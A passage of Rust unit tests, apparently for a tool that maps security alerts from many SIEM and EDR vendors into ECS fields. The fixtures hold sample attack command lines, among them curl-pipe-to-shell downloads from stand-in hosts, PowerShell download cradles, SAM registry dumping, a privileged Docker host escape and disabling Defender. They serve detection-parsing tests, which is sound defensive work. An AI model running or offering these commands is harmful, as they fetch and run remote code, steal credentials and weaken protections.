                    "ImageFile": {"$id": "5", "Type": "file", "Name": "explorer.exe", "Directory": "C:\\Windows"}},
                "Account": {"$ref": "6"}, "Host": {"$ref": "7"}},
            {"$id": "6", "Type": "account", "Name": "lee", "NTDomain": "CONTOSO"},
            {"$id": "7", "Type": "host", "HostName": "ws3", "OSFamily": "Windows"}]).to_string();
        let sa = from_json(json!({"SystemAlertId": "sa-1", "AlertName": "VBS from user folder", "Entities": entities,
            "Techniques": "[\"T1059.005\"]", "CompromisedEntity": "ws3"}), "x").unwrap();
        assert_eq!(sa.id, "sa-1");
        assert_eq!(sa.doc["process"]["name"], "cscript.exe");
        assert_eq!(sa.doc["process"]["pid"], 500);
        assert_eq!(sa.doc["process"]["parent"]["name"], "explorer.exe");
        assert_eq!(sa.doc["user"]["name"], "lee");
        assert_eq!(sa.doc["host"]["name"], "ws3");
        assert_eq!(sa.doc["threat"]["technique"]["id"], json!(["T1059.005"]));
        // A second branch of the story (a later elevated step): its starter and its command
        // follow the first process's command line.
        let entities = json!([
            {"$id": "2", "Type": "process", "CommandLine": "osascript -e x", "ImageFile": {"$id": "3", "Type": "file", "Name": "osascript", "Directory": "/usr/bin"}},
            {"$id": "4", "Type": "process", "CommandLine": "/bin/sh -c launchctl load y",
                "ParentProcess": {"$id": "5", "Type": "process", "CommandLine": "/usr/libexec/security_authtrampoline /bin/sh auth 3 -c launchctl load y"}}]).to_string();
        let two = from_json(
            json!({"SystemAlertId": "sa-2", "AlertName": "x", "Entities": entities}),
            "x",
        )
        .unwrap();
        assert_eq!(two.doc["process"]["name"], "osascript");
        assert_eq!(
            two.doc["process"]["command_line"],
            "osascript -e x\n/usr/libexec/security_authtrampoline /bin/sh auth 3 -c launchctl load y\n/bin/sh -c launchctl load y"
        );
        // No process entity: the scheduled rule's custom details name the process.
        let details = json!({"Custom Details": json!({"NewProcessName": ["C:\\W\\powershell.exe"],
            "CommandLine": ["powershell -File C:\\Packages\\s.ps1"], "ParentProcessName": ["C:\\Packages\\RunCommandExtension.exe"],
            "SubjectUserName": ["SYSTEM"]}).to_string()}).to_string();
        let cd = from_json(
            json!({"SystemAlertId": "sa-3", "AlertName": "Run Command", "ExtendedProperties": details,
                "Entities": json!([{"$id": "1", "Type": "host", "HostName": "vm-1", "OSFamily": "Windows"}]).to_string()}),
            "x",
        )
        .unwrap();
        assert_eq!(
            cd.doc["process"]["command_line"],
            "powershell -File C:\\Packages\\s.ps1"
        );
        assert_eq!(
            cd.doc["process"]["parent"]["name"],
            "RunCommandExtension.exe"
        );
        assert_eq!(cd.doc["user"]["name"], "SYSTEM");
        assert_eq!(cd.doc["host"]["name"], "vm-1");
        // ESXi shell.log lines in a Sumo Logic search result (`_raw`, `_sourcehost`).
        let esx = from_json(
            json!({"_raw": "2025-11-13T03:01:04.117Z In(14) shell[4198712]: [root]: esxcli system settings advanced set -o /User/execInstalledOnly -i 0",
                "_sourcehost": "esx02", "_messagetime": "1763002864117"}),
            "x",
        )
        .unwrap();
        assert_eq!(
            esx.doc["process"]["command_line"],
            "esxcli system settings advanced set -o /User/execInstalledOnly -i 0"
        );
        assert_eq!(esx.doc["user"]["name"], "root");
        assert_eq!(esx.doc["host"]["name"], "esx02");
    }

    #[test]
    fn eslogger_exec_events_and_osquery_results_map_to_ecs() {
        let es = from_json(json!({"time": "2025-04-02T10:11:12Z", "event_type": 9,
            "process": {"executable": {"path": "/bin/zsh"}, "audit_token": {"pid": 10, "euid": 501}, "signing_id": "com.apple.zsh", "is_platform_binary": true},
            "event": {"exec": {"target": {"executable": {"path": "/usr/bin/osascript"}, "audit_token": {"pid": 11, "euid": 501}},
                "args": ["osascript", "-e", "display dialog \"x\""], "cwd": {"path": "/Users/ann"}}}}), "x").unwrap();
        assert_eq!(es.doc["process"]["name"], "osascript");
        assert_eq!(
            es.doc["process"]["command_line"],
            "osascript -e \"display dialog \"x\"\""
        );
        assert_eq!(es.doc["process"]["parent"]["executable"], "/bin/zsh");
        assert_eq!(es.doc["process"]["parent"]["pid"], 10);
        assert_eq!(es.doc["process"]["working_directory"], "/Users/ann");
        assert_eq!(es.doc["user"]["id"], "501");
        assert_eq!(es.doc["host"]["os"]["type"], "macos");
        // The same event decoded by Filebeat under a key of its own, beside the shipper's host.
        let wrapped = from_json(json!({"@timestamp": "2025-04-02T10:11:12Z", "host": {"name": "mbp-7"},
            "eslogger": {"process": {"executable": {"path": "/bin/zsh"}, "audit_token": {"pid": 10, "euid": 0}},
                "event": {"exec": {"target": {"executable": {"path": "/usr/bin/ssh"}, "audit_token": {"pid": 11, "euid": 0}},
                    "args": ["ssh", "-o", "StrictHostKeyChecking=no", "svc@10.40.12.31"]}}}}), "x").unwrap();
        assert_eq!(wrapped.doc["process"]["name"], "ssh");
        assert_eq!(wrapped.doc["user"]["name"], "root");
        assert_eq!(wrapped.doc["host"]["name"], "mbp-7");
        // A LaunchAgent registered with Background Task Management: the program it will start.
        let btm = from_json(json!({"hostname": "mbp-9", "time": "2025-04-28T13:05:58Z", "event_type": 124,
            "process": {"executable": {"path": "/usr/libexec/backgroundtaskmanagementd"}},
            "event": {"btm_launch_item_add": {"instigator": {"executable": {"path": "/private/tmp/a.out"}},
                "item": {"item_type": 3, "legacy": true, "uid": 501, "item_url": "file:///Users/dk/Library/LaunchAgents/com.apple.sync.plist"},
                "executable_path": "/Users/dk/Library/Application Support/.mdworker/sync.sh"}}}), "x").unwrap();
        assert_eq!(
            btm.doc["process"]["command_line"],
            "\"/Users/dk/Library/Application Support/.mdworker/sync.sh\""
        );
        assert_eq!(btm.doc["process"]["name"], "sync.sh");
        assert_eq!(btm.doc["process"]["parent"]["name"], "launchd");
        assert_eq!(
            btm.doc["process"]["parent"]["parent"]["executable"],
            "/private/tmp/a.out"
        );
        assert_eq!(
            btm.doc["file"]["path"],
            "/Users/dk/Library/LaunchAgents/com.apple.sync.plist"
        );
        assert_eq!(btm.doc["user"]["name"], "dk");
        assert_eq!(btm.doc["host"]["name"], "mbp-9");
        let oq = from_json(json!({"name": "pack_ir_process_events", "hostIdentifier": "web-03", "unixTime": 1743588672,
            "columns": {"pid": "8812", "path": "/usr/bin/bash", "cmdline": "bash -i", "parent": "8800", "uid": "0", "cwd": "/tmp"},
            "action": "added"}), "x").unwrap();
        assert_eq!(oq.doc["process"]["executable"], "/usr/bin/bash");
        assert_eq!(oq.doc["process"]["pid"], 8812);
        assert_eq!(oq.doc["process"]["parent"]["pid"], 8800);
        assert_eq!(oq.doc["user"]["name"], "root");
        assert_eq!(oq.doc["host"]["name"], "web-03");
        assert_eq!(oq.doc["host"]["os"]["type"], "linux");
        // A snapshot is one alert per row.
        let text = json!({"name": "processes", "hostIdentifier": "h", "calendarTime": "x", "action": "snapshot",
            "snapshot": [{"path": "/bin/sh", "cmdline": "sh -c id"}, {"path": "/usr/bin/python3", "cmdline": "python3 -m http.server"}]}).to_string();
        let all = parse_text(&text);
        assert_eq!(all.len(), 2);
        let second = all[1].as_ref().unwrap();
        assert_eq!(second.doc["process"]["name"], "python3");
        assert_eq!(second.position, "document, row 2");
        // Persistence tables: a crontab line runs through cron as the crontab's owner, a
        // LaunchAgent through launchd as the user whose Library holds it.
        let cron = from_json(json!({"name": "crontab", "hostIdentifier": "ci-7", "calendarTime": "x", "action": "added",
            "columns": {"minute": "*/15", "command": "curl -s http://x.example/a | bash", "path": "/var/spool/cron/crontabs/jenkins"}}), "x").unwrap();
        assert_eq!(
            cron.doc["process"]["command_line"],
            "/bin/sh -c curl -s http://x.example/a | bash"
        );
        assert_eq!(cron.doc["process"]["name"], "sh");
        assert_eq!(cron.doc["process"]["parent"]["name"], "cron");
        assert_eq!(cron.doc["user"]["name"], "jenkins");
        assert_eq!(cron.doc["file"]["path"], "/var/spool/cron/crontabs/jenkins");
        let la = from_json(json!({"name": "launchd", "hostIdentifier": "mbp-1", "calendarTime": "x", "action": "added",
            "columns": {"label": "com.apple.icloud.syncagent", "program": "", "program_arguments": "/bin/zsh -c id",
                "path": "/Users/tb/Library/LaunchAgents/com.apple.icloud.syncagent.plist", "username": ""}}), "x").unwrap();
        assert_eq!(la.doc["process"]["executable"], "/bin/zsh");
        assert_eq!(la.doc["process"]["command_line"], "/bin/zsh -c id");
        assert_eq!(la.doc["process"]["parent"]["name"], "launchd");
        assert_eq!(la.doc["user"]["name"], "tb");
        assert_eq!(la.doc["host"]["os"]["type"], "macos");
    }

    #[test]
    fn zircolite_rule_reports_give_one_alert_per_matched_event() {
        let text = json!([{"title": "Shell Spawned via awk", "id": "9e2b71c4", "tags": ["attack.execution", "attack.t1059.004"],
            "rule_level": "high", "count": 2, "matches": [
                {"Image": "/usr/bin/awk", "CommandLine": "awk 'BEGIN {system(\"/bin/sh &\")}'", "User": "qa", "Computer": "mbp-1", "ParentImage": "/bin/sh"},
                {"Image": "/usr/bin/awk", "CommandLine": "awk 'BEGIN {system(\"/bin/sh\")}'", "User": "qa", "Computer": "mbp-2"}]},
            {"title": "no matches here", "matches": []}])
        .to_string();
        let out = parse_text(&text);
        assert_eq!(
            out.len(),
            3,
            "two events, and the empty report as itself: {out:?}"
        );
        let a = out[0].as_ref().unwrap();
        assert_eq!(a.position, "element 1, match 1");
        assert_eq!(a.doc["process"]["name"], "awk");
        assert_eq!(a.doc["host"]["name"], "mbp-1");
        assert_eq!(a.doc["threat"]["technique"]["id"], json!(["T1059.004"]));
        let b = out[1].as_ref().unwrap();
        assert_eq!(b.position, "element 1, match 2");
        assert_eq!(b.doc["host"]["name"], "mbp-2");
        assert_ne!(a.id, b.id, "each event keeps its own identity");
        assert!(
            out[2].is_err(),
            "a rule report without events is not an alert"
        );
        // The report's rule wins over an event's own `rule` field; non-objects are reported;
        // a huge report is capped and the rest reported, never silently dropped.
        let mut many: Vec<Json> = vec![
            json!("not an event"),
            json!({"Image": "/bin/sh", "CommandLine": "sh -c id", "Computer": "h", "rule": {"name": "own"}}),
        ];
        many.extend((0..1200).map(|i| json!({"Image": "/bin/sh", "CommandLine": format!("sh -c 'echo {i}'"), "Computer": "h"})));
        let out = from_json_expanded(
            json!({"title": "T", "tags": ["attack.t1059.004"], "sigma": ["SELECT …"], "matches": many}),
            "line 1",
        );
        assert_eq!(out.len(), 1001);
        let bad = out[0].as_ref().unwrap_err();
        assert_eq!(bad.position, "line 1, match 1");
        let a = out[1].as_ref().unwrap();
        // Flat Sysmon-shaped events keep every original field under `winlog.event_data`.
        let kept = &a.doc["winlog"]["event_data"];
        assert_eq!(kept["rule"]["title"], "T", "{}", a.doc);
        assert_eq!(kept["event_rule"]["name"], "own");
        assert!(
            kept["rule"].get("sigma").is_none(),
            "only the rule's identity is copied"
        );
        assert_eq!(a.doc["threat"]["technique"]["id"], json!(["T1059.004"]));
        let last = out[1000].as_ref().unwrap_err();
        assert_eq!(last.position, "line 1, matches 1001 to 1202");
        assert!(last.reason.contains("1202 matches"), "{}", last.reason);

        // A whole search response (Kibana's signals/search): one alert per hit, by its `_id`.
        let out = from_json_expanded(
            json!({"took": 3, "timed_out": false, "hits": {"total": {"value": 2}, "hits": [
                {"_index": ".alerts-security", "_id": "a1", "_source": {"process": {"command_line": "sh -c id", "name": "sh"}, "host": {"name": "h1"}}},
                {"_index": ".alerts-security", "_id": "a2", "_source": {"process": {"command_line": "bash -c id", "name": "bash"}, "host": {"name": "h2"}}}]}}),
            "document",
        );
        assert_eq!(out.len(), 2);
        let h2 = out[1].as_ref().unwrap();
        assert_eq!(h2.id, "a2");
        assert_eq!(h2.doc["host"]["name"], "h2");
        // A vendor API's envelope (CrowdStrike's `resources`, SentinelOne's `data`): one per entity.
        let out = from_json_expanded(
            json!({"meta": {"query_time": 0.07}, "errors": [], "resources": [
                {"id": "ind:1", "cmdline": "powershell.exe -enc AA==", "filepath": "\\Device\\HarddiskVolume4\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                 "device": {"hostname": "APP-1", "platform_name": "Windows"}, "composite_id": "c:ind:1"}]}),
            "document",
        );
        assert_eq!(out.len(), 1);
        let cs = out[0].as_ref().unwrap();
        assert_eq!(
            cs.doc["process"]["executable"],
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
        );
    }

    #[test]
    fn graylog_notifications_opensearch_findings_and_launchd_plists_are_read() {
        // Graylog's event notification: one alert per backlog message; winlogbeat's fields
        // flattened with underscores read as the Windows event; JSON text in `message` as that
        // document, with the message's source as host.
        let out = from_json_expanded(
            json!({"event_definition_id": "e1", "event_definition_title": "Office spawned PowerShell",
                "event": {"id": "01J", "fields": {"host": "FIN-1"}},
                "backlog": [
                    {"_id": "m1", "source": "FIN-1", "message": "Process Create: …", "winlog_event_id": 1,
                     "winlog_computer_name": "FIN-1.corp", "winlog_channel": "Microsoft-Windows-Sysmon/Operational",
                     "winlog_event_data_Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                     "winlog_event_data_CommandLine": "powershell.exe -nop -enc AA==",
                     "winlog_event_data_ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                     "winlog_event_data_User": "CORP\\rk"},
                    {"_id": "m2", "source": "ci-2", "message": "{\"SYSCALL\":{\"comm\":\"python3\",\"exe\":\"/usr/bin/python3\",\"UID\":\"gl\"},\"EXECVE\":{\"argc\":2,\"ARGV\":[\"python3\",\"x.py\"]}}"}]}),
            "document",
        );
        assert_eq!(out.len(), 2);
        let w = out[0].as_ref().unwrap();
        assert_eq!(
            w.doc["process"]["command_line"],
            "powershell.exe -nop -enc AA=="
        );
        assert_eq!(w.doc["process"]["parent"]["name"], "WINWORD.EXE");
        assert_eq!(out[0].as_ref().unwrap().doc["host"]["name"], "FIN-1.corp");
        let l = out[1].as_ref().unwrap();
        assert_eq!(l.doc["process"]["command_line"], "python3 x.py");
        assert_eq!(l.doc["host"]["name"], "ci-2");
        // OpenSearch Security Analytics findings: the matched document, the rules' techniques.
        let doc = json!({"@timestamp": "2025-03-30T21:47:12Z", "host": {"name": "DC01"},
            "winlog": {"event_id": "4104", "channel": "Microsoft-Windows-PowerShell/Operational",
                "event_data": {"ScriptBlockText": "IEX (iwr http://203.0.113.9/a.ps1)", "ScriptBlockId": "b1"}},
            "user": {"name": "Administrator"},
            "message": "Creating Scriptblock text (1 of 1):\nIEX (iwr http://203.0.113.9/a.ps1)\n\nScriptBlock ID: b1\nPath: "});
        let out = from_json_expanded(
            json!({"total_findings": 1, "findings": [{"id": "f1", "queries": [
                {"name": "PowerShell cradle", "tags": ["high", "attack.execution", "attack.t1059.001"]}],
                "document_list": [{"id": "d1", "found": true, "document": doc.to_string()}]}]}),
            "document",
        );
        assert_eq!(out.len(), 1);
        let f = out[0].as_ref().unwrap();
        assert_eq!(
            f.doc["powershell"]["file"]["script_block_text"],
            "IEX (iwr http://203.0.113.9/a.ps1)"
        );
        assert_eq!(
            f.doc["user"]["name"], "Administrator",
            "the document's own fields, not its message line"
        );
        assert_eq!(f.doc["threat"]["technique"]["id"], json!(["T1059.001"]));
        // A launch agent's plist as a collector reports it: the job launchd will start.
        let p = from_json(
            json!({"FullPath": "/Users/ns/Library/LaunchAgents/com.apple.x.plist", "Fqdn": "MBP-1.local",
                "LaunchdConfig": {"Label": "com.apple.x", "RunAtLoad": true,
                    "ProgramArguments": ["/bin/bash", "-c", "curl -s \"https://x.example/a\" | sh"]}}),
            "x",
        )
        .unwrap();
        assert_eq!(
            p.doc["process"]["command_line"],
            "/bin/bash -c 'curl -s \"https://x.example/a\" | sh'"
        );
        assert_eq!(p.doc["process"]["parent"]["name"], "launchd");
        assert_eq!(p.doc["user"]["name"], "ns");
        assert_eq!(p.doc["host"]["name"], "MBP-1.local");
        assert_eq!(
            p.doc["file"]["path"],
            "/Users/ns/Library/LaunchAgents/com.apple.x.plist"
        );
    }

    #[test]
    fn ecs_field_types_are_what_playbooks_expect() {
        // A uid as a number, a name as a one-element list, the arguments as one string.
        let a = from_json(
            json!({"process": {"name": ["osascript"], "args": "python3 -c print(1)", "command_line": "python3 -c print(1)",
                "parent": {"executable": ["/bin/zsh"]}}, "user": {"id": 501, "name": "mb"}}),
            "x",
        )
        .unwrap();
        assert_eq!(a.doc["user"]["id"], "501");
        assert_eq!(a.doc["process"]["name"], "osascript");
        assert_eq!(a.doc["process"]["parent"]["executable"], "/bin/zsh");
        assert_eq!(
            a.doc["process"]["args"],
            json!(["python3", "-c", "print(1)"])
        );
        // Keywords sent as numbers, booleans or one-element lists; an object stays as sent.
        let a = from_json(
            json!({"process": {"name": "bash", "command_line": "bash -c id", "working_directory": ["/tmp"]},
                "host": {"name": 4021, "os": {"type": ["linux"]}}, "user": {"name": ["a", "b"]},
                "destination": {"ip": {"v4": "203.0.113.9"}}, "event": {"provider": true}}),
            "x",
        )
        .unwrap();
        assert_eq!(a.doc["host"]["name"], "4021");
        assert_eq!(a.doc["host"]["os"]["type"], "linux");
        assert_eq!(a.doc["process"]["working_directory"], "/tmp");
        assert_eq!(a.doc["event"]["provider"], "true");
        assert_eq!(a.doc["user"]["name"], json!(["a", "b"]));
        assert_eq!(a.doc["destination"]["ip"], json!({"v4": "203.0.113.9"}));
    }

    #[test]
    fn a_jamf_protect_chain_names_its_entry_leader() {
        let proc_ = |pid: i64, ppid: i64, path: &str, args: &[&str]| json!({"pid": pid, "ppid": ppid, "path": path, "args": args, "uid": 0});
        let a = from_json(
            json!({"match": {"event": {"pid": 5}, "tags": ["T1059.002"]}, "host": {"hostname": "MBP-1"},
                "related": {"processes": [
                    proc_(5, 4, "/usr/bin/osascript", &["osascript", "-e", "display dialog"]),
                    proc_(4, 3, "/usr/bin/sudo", &["sudo", "-u", "m", "osascript"]),
                    proc_(3, 2, "/bin/launchctl", &["launchctl", "asuser", "503"]),
                    proc_(2, 1, "/usr/local/jamf/bin/jamf", &["jamf", "policy", "-id", "214"])]}}),
            "x",
        )
        .unwrap();
        assert_eq!(
            a.doc["process"]["parent"]["parent"]["executable"],
            "/bin/launchctl"
        );
        assert_eq!(
            a.doc["process"]["entry_leader"]["executable"],
            "/usr/local/jamf/bin/jamf"
        );
        assert_eq!(a.doc["process"]["entry_leader"]["name"], "jamf");
        // The match event is the process itself when `related.processes` lists only its
        // ancestors.
        let b = from_json(
            json!({"input": {"eventType": "GPProcessEvent", "host": {"hostname": "MBP-2"},
                "match": {"event": {"pid": 9, "ppid": 8, "path": "/usr/bin/curl", "args": ["curl", "-o", "/tmp/.u", "https://x.example/u"], "uid": 501, "cwd": "/Users/m/.dev"}, "facts": []},
                "related": {"processes": [proc_(8, 1, "/bin/bash", &["bash"])]}}}),
            "x",
        )
        .unwrap();
        assert_eq!(b.doc["process"]["executable"], "/usr/bin/curl");
        assert_eq!(b.doc["process"]["parent"]["executable"], "/bin/bash");
        assert_eq!(b.doc["process"]["working_directory"], "/Users/m/.dev");
    }

    #[test]
    fn forwarded_cef_and_rendered_sysmon_lines_are_read() {
        let line = |m: &str| from_json(json!({"host": "10.0.0.5", "message": m}), "x").unwrap();
        // CrowdStrike's SIEM connector: the command line in a labelled custom string, the
        // endpoint as `dhost` (the host, not a destination to block).
        let cs = line(
            "<134>Mar 11 08:14:52 conn CEF:0|CrowdStrike|FalconHost|1.0|DetectionSummaryEvent|Execution|4|cn2Label=ProcessId cn2=4821 dhost=LT-0311 duser=SYSTEM fname=powershell.exe filePath=\\\\Device\\\\HarddiskVolume3\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0 cs5Label=CommandLine cs5=powershell.exe -nop -w hidden -enc AA\\=\\= rt=1741680892000",
        );
        assert_eq!(
            cs.doc["process"]["command_line"],
            "powershell.exe -nop -w hidden -enc AA=="
        );
        assert_eq!(
            cs.doc["process"]["executable"],
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
        );
        assert_eq!(cs.doc["host"]["name"], "LT-0311");
        assert!(cs.doc.get("destination").is_none(), "{}", cs.doc);
        // SentinelOne's CEF2: pipe-separated pairs after the product.
        let s1 = line(
            "2025-04-15 07:52:30,350 sentinel - CEF:2|SentinelOne|Mgmt|rt=2025-04-15 07:52:30|sourceHostName=KRK-0118|sourceUserName=lw|sourceOsType=windows|eventDesc=New Suspicious threat detected|threatCommandLineArguments=\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\lw\\Downloads\\f.js\"|threatID=1",
        );
        assert_eq!(
            s1.doc["process"]["command_line"],
            "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\lw\\Downloads\\f.js\""
        );
        assert_eq!(s1.doc["host"]["name"], "KRK-0118");
        assert_eq!(s1.doc["host"]["os"]["type"], "windows");
        assert_eq!(s1.doc["rule"]["name"], "New Suspicious threat detected");
        // Carbon Black Cloud's connector names the parent and the child in the event name.
        let cb = line(
            "<14>Jun  3 14:06:19 cbc CEF:0|CarbonBlack|CbDefense_Syslog_Connector|2.0|Active_Threat|The application \"c:\\users\\o\\appdata\\local\\temp\\x.vbs\" invoked another application (powershell.exe).|6|dvchost=TKY-0457 duser=o",
        );
        assert_eq!(cb.doc["process"]["name"], "powershell.exe");
        assert_eq!(
            cb.doc["process"]["parent"]["executable"],
            "c:\\users\\o\\appdata\\local\\temp\\x.vbs"
        );
        // Snare's MSWinEventLog line: the rendered Sysmon message with its line breaks folded.
        let snare = line(
            "<14>Jun 10 02:14:33 HR-31 MSWinEventLog\t1\tMicrosoft-Windows-Sysmon/Operational\t22117\tTue Jun 10 02:14:33 2025\t1\tMicrosoft-Windows-Sysmon\tSYSTEM\tUser\tInformation\tHR-31\tProcess Create (rule: ProcessCreate)\t\tProcess Create:  RuleName: -  Image: C:\\Windows\\System32\\cmd.exe  CommandLine: cmd.exe /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output  CurrentDirectory: C:\\WINDOWS\\system32\\  User: NT AUTHORITY\\SYSTEM  ParentImage: C:\\Windows\\System32\\services.exe  ParentCommandLine: C:\\WINDOWS\\system32\\services.exe\t19",
        );
        assert_eq!(
            snare.doc["process"]["command_line"],
            "cmd.exe /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output"
        );
        assert_eq!(snare.doc["process"]["parent"]["name"], "services.exe");
        // NXLog's classic engine event: the details only in the rendered message.
        let ps2 = from_json(json!({"EventID": 400, "SourceName": "PowerShell", "Channel": "Windows PowerShell", "Hostname": "CTX07",
            "Message": "Engine state is changed from None to Available. \r\n\r\nDetails: \r\n\tHostName=ConsoleHost\r\n\tHostApplication=powershell.exe -Version 2 -File C:\\Users\\l\\AppData\\Local\\Temp\\inv.ps1\r\n\tEngineVersion=2.0\r\n\tCommandLine="}), "x").unwrap();
        assert_eq!(
            ps2.doc["process"]["command_line"],
            "powershell.exe -Version 2 -File C:\\Users\\l\\AppData\\Local\\Temp\\inv.ps1"
        );
        assert_eq!(ps2.doc["powershell"]["engine"]["version"], "2.0");
        // GuardDuty's runtime context: an example of the command, where the process has none.
        let gd = from_json(json!({"source": "aws.guardduty", "detail": {"type": "PrivilegeEscalation:Runtime/DockerSocketAccessed",
            "service": {"runtimeDetails": {"process": {"name": "docker", "executablePath": "/usr/local/bin/docker", "user": "root"},
                "context": {"commandLineExample": "docker run --privileged -v /:/host alpine chroot /host sh"}}}}}), "x").unwrap();
        assert_eq!(
            gd.doc["process"]["command_line"],
            "docker run --privileged -v /:/host alpine chroot /host sh"
        );
        // A Splunk notable carrying the ESXi shell lines it matched: the session's commands.
        let esx = from_json(json!({"search_name": "ESXi Shell - Rule", "dest": "esx-03", "src": "10.10.20.15", "app": "sshd",
            "annotations": {"mitre_attack": ["T1059.004"]},
            "commands": ["2025-03-06T15:48:09Z shell[2291840]: [root]: esxcli system version get",
                         "2025-03-06T15:48:17Z shell[2291840]: [root]: vim-cmd vmsvc/getallvms"]}), "x").unwrap();
        assert_eq!(
            esx.doc["process"]["command_line"],
            "esxcli system version get\nvim-cmd vmsvc/getallvms"
        );
        assert_eq!(esx.doc["user"]["name"], "root");
        assert_eq!(esx.doc["host"]["name"], "esx-03");
        assert_eq!(esx.doc["source"]["ip"], "10.10.20.15");
        assert_eq!(esx.doc["threat"]["technique"]["id"], json!(["T1059.004"]));
        // A Windows event as Splunk extracts it: `EventCode` beside the script block.
        let sb = from_json(
            json!({"search_name": "PS - Rule", "EventCode": "4104", "dest": "SRV-1",
            "ScriptBlockText": "Invoke-Command -ComputerName a,b -ScriptBlock {x}"}),
            "x",
        )
        .unwrap();
        assert_eq!(
            sb.doc["powershell"]["file"]["script_block_text"],
            "Invoke-Command -ComputerName a,b -ScriptBlock {x}"
        );
        // A notable's `script_block_text` (the Endpoint data model's name) is the script block.
        let sbt = from_json(json!({"search_name": "Defender Tampering - Rule", "dest": ["SQL03", "APP11"], "user": "K\\adm",
            "process_name": "wsmprovhost.exe", "process": "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
            "script_block_text": "Set-MpPreference -DisableRealtimeMonitoring $true"}), "x").unwrap();
        assert_eq!(
            sbt.doc["powershell"]["file"]["script_block_text"],
            "Set-MpPreference -DisableRealtimeMonitoring $true"
        );
        // A Defender process-creation row: the initiating process's parent and directory.
        let mde = from_json(json!({"DeviceName": "WS-1", "FileName": "cscript.exe", "FolderPath": "C:\\Windows\\System32\\cscript.exe",
            "ProcessCommandLine": "cscript.exe //nologo scan.vbs", "InitiatingProcessFileName": "cmd.exe",
            "InitiatingProcessCommandLine": "cmd.exe /d /c cscript.exe //nologo scan.vbs",
            "InitiatingProcessParentFileName": "TaniumCX.exe",
            "InitiatingProcessCurrentDirectory": "C:\\Program Files\\Tanium\\Tanium Client\\Downloads\\Action_1\\"}), "x").unwrap();
        assert_eq!(
            mde.doc["process"]["parent"]["parent"]["name"],
            "TaniumCX.exe"
        );
        assert_eq!(
            mde.doc["process"]["parent"]["working_directory"],
            "C:\\Program Files\\Tanium\\Tanium Client\\Downloads\\Action_1\\"
        );
        // Prisma Cloud's runtime audit: the command in its message.
        let pc = from_json(json!({"_id": "67c9", "type": "processes", "hostname": "ip-10-0-41-17", "user": "postgres",
            "processPath": "/usr/bin/bash", "attackType": "unexpectedProcess", "containerName": "pg-backup",
            "msg": "/usr/bin/bash launched but is not found in the runtime model. Full command: /bin/bash /opt/backup/pg-backup.sh --database orders"}), "x").unwrap();
        assert_eq!(
            pc.doc["process"]["command_line"],
            "/bin/bash /opt/backup/pg-backup.sh --database orders"
        );
        assert_eq!(pc.doc["process"]["executable"], "/usr/bin/bash");
        assert_eq!(pc.doc["user"]["name"], "postgres");
        assert_eq!(pc.doc["container"]["name"], "pg-backup");
        assert_eq!(pc.id, "67c9");
        assert_eq!(
            snare.doc["process"]["parent"]["command_line"],
            "C:\\WINDOWS\\system32\\services.exe"
        );
    }

    #[test]
    fn thehive_splunk_rows_malops_oat_graylog_and_file_reads_map_to_ecs() {
        // TheHive: the description's table and the observables' messages.
        let h = from_json(json!({"_type": "alert", "sourceRef": "1738.9", "title": "Renamed AutoIt",
            "description": "| Field | Value |\n|---|---|\n| Image | `C:\\Users\\t\\AppData\\Local\\Temp\\6\\Carolina.pif` |\n| OriginalFileName | `AutoIt3.exe` |\n| CommandLine | `Carolina.pif  P` |",
            "artifacts": [{"dataType": "hostname", "data": "WS-1", "message": "agent.name"},
                {"dataType": "other", "data": "cmd.exe /c copy Tents Tents.cmd & Tents.cmd", "message": "data.win.eventdata.parentCommandLine", "tags": ["commandline"]},
                {"dataType": "filename", "data": "Setup.exe", "message": "grandparent image"}]}), "x").unwrap();
        assert_eq!(h.doc["process"]["pe"]["original_file_name"], "AutoIt3.exe");
        assert_eq!(h.doc["process"]["parent"]["name"], "cmd.exe");
        assert_eq!(h.doc["process"]["parent"]["parent"]["name"], "Setup.exe");
        assert_eq!(h.doc["host"]["name"], "WS-1");
        // A case promoted from an alert: `**Key**: value` lines and observables by message.
        let c = from_json(json!({"_type": "Case", "_id": "~12", "title": "[MDE] cradle",
            "description": "**Device**: FS-2.corp (Windows Server 2022, 10.1.1.1)\n**Account**: C\\da-r (member of Domain Admins)",
            "observables": [{"dataType": "other", "data": "powershell -nop -c iex 1", "message": "powershell.exe ProcessCommandLine", "tags": ["cmdline"]},
                {"dataType": "other", "data": "C:\\Windows\\PSEXESVC.exe", "message": "grandparent image", "tags": ["process"]}]}), "x").unwrap();
        assert_eq!(c.id, "~12");
        assert_eq!(c.doc["process"]["command_line"], "powershell -nop -c iex 1");
        assert_eq!(c.doc["process"]["parent"]["parent"]["name"], "PSEXESVC.exe");
        assert_eq!(c.doc["host"]["name"], "FS-2.corp");
        assert_eq!(c.doc["user"]["name"], "da-r");
        // Splunk json_rows with the Windows add-on's 4688 names.
        let rows = json!({"preview": false, "fields": ["host", "EventCode", "Account_Name", "New_Process_Name", "Creator_Process_Name", "Process_Command_Line", "Mandatory_Label"],
            "rows": [["SQL-3", "4688", ["SQL-3$", "adm-l"], "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\PSEXESVC.exe", "cmd.exe /c reg save HKLM\\SAM s", "Mandatory Label\\High Mandatory Level"]]});
        let r = from_json_expanded(rows, "x").remove(0).unwrap();
        assert_eq!(r.doc["process"]["parent"]["name"], "PSEXESVC.exe");
        assert_eq!(r.doc["user"]["name"], "adm-l");
        assert_eq!(r.doc["process"]["integrity_level"], "High");
        assert_eq!(r.doc["host"]["name"], "SQL-3");
        // A Cybereason Malop's root-cause process.
        let m = from_json(json!({"data": {"resultIdToElementDataMap": {"11.1": {"simpleValues": {"elementDisplayName": {"values": ["powershell.exe"]}},
            "elementValues": {"primaryRootCauseElements": {"elementValues": [{"guid": "g1", "name": "powershell.exe", "simpleValues": {
                "commandLine": {"values": ["powershell.exe -NoP -EncodedCommand AAAA"]},
